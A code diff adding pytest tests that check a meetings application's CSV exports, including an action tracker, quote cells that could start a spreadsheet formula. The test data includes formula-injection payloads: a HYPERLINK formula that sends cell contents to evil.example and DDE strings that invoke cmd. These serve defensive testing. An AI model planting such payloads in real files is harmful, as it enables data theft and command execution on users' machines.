@@ -3,6 +3,8 @@ as vote events; the same for everyone, and only once published by a public body.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import datetime
 
@@ -11,7 +13,7 @@ from flask.testing import FlaskClient
 
 from meetings.application import MeetingsApplication
 from tests.web.conftest import Json
-from tests.web.support import get, make_body, ok, problem
+from tests.web.support import agree_action, get, make_body, make_person, ok, problem
 from tests.web.test_feeds import (
     AMENDED,
     BASE_URL,
@@ -22,6 +24,7 @@ from tests.web.test_feeds import (
     publish_meeting,
 )
 from tests.web.test_minutes_api import Recorded, _record_everything, _to_approval
+from web.csv_safe import csv_text
 
 
 @pytest.fixture(autouse=True)
@@ -230,3 +233,42 @@ def test_the_openapi_document_describes_the_export(client: FlaskClient) -> None:
     assert {"_type", "id", "participants", "agenda", "vote_events", "extras"} <= set(
         schema["properties"]
     )
+
+
+# CSV ------------------------------------------------------------------------------------
+
+#: What an attacker types for a spreadsheet to run, and the owner's name they choose.
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
+
+
+@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\r=1+1", "\n=1+1"])
+def test_a_csv_cell_that_could_start_a_formula_is_quoted(value: str) -> None:
+    text = csv_text(["description", "count"], [{"description": value, "count": -3}])
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row == {"description": "'" + value, "count": "-3"}
+
+
+def test_ordinary_csv_cells_are_left_as_they_are() -> None:
+    rows = [{"a": "Review CCTV", "b": "2026-03-01", "c": None, "d": True, "e": "Ann = Bob"}]
+    assert csv_text("abcde", rows) == "a,b,c,d,e\r\nReview CCTV,2026-03-01,,True,Ann = Bob\r\n"
+
+
+def test_the_action_tracker_csv_never_hands_a_spreadsheet_a_formula(
+    client: FlaskClient, admin: str, clerk: str, scrutiny: str, live: tuple[Json, Json]
+) -> None:
+    meeting, item = live
+    owner = make_person(client, admin, name="=1+2")
+    for description in FORMULAS:
+        agree_action(client, clerk, meeting["id"], item["id"], owner["id"], description=description)
+    answer = get(client, "/actions.csv", scrutiny, query_string={"body_id": meeting["body_id"]})
+    assert answer.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
+    assert sorted(r["description"] for r in rows) == sorted("'" + f for f in FORMULAS)
+    assert {r["owner_name"] for r in rows} == {"'=1+2"}
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
